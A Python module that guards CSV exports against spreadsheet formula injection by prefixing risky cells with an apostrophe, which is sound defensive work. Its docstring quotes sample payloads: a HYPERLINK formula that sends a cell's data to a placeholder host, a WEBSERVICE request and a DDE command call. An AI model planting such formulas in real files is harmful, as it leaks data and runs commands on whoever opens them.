"""CSV for spreadsheets: every cell text, never a formula.

LibreOffice Calc, Excel and Google Sheets take a CSV cell starting with `=`, `+`, `-` or `@`
(also after a tab or carriage return) for a formula and evaluate it when the file is opened:
a metric named `=HYPERLINK("https://host/?"&A1, "latency")` would become a link sending the
next cell to that host, `=WEBSERVICE(...)` a request, `-2+3+cmd|...` a DDE call. Such a
cell is written with a leading `'`, which spreadsheets read as "this cell is text" and
show without the quote (OWASP's advice for CSV injection). Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """A CSV cell value: text a spreadsheet would evaluate gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def to_csv(rows: Iterable[dict[str, Any]], fieldnames: Sequence[str]) -> str:
    """The rows as CSV with a header line, every text cell through `cell`."""
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(fieldnames), lineterminator="\n")
    writer.writeheader()
    writer.writerows({key: cell(value) for key, value in row.items()} for row in rows)
    return buffer.getvalue()
